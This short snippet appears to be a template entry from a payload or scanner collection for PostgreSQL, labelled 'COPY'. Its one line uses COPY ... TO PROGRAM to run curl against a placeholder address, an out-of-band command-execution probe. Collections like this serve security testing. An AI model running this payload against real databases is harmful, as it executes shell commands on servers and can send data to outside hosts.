-- on: postgres
-- named: COPY
copy (select 1) to program 'curl {address}'
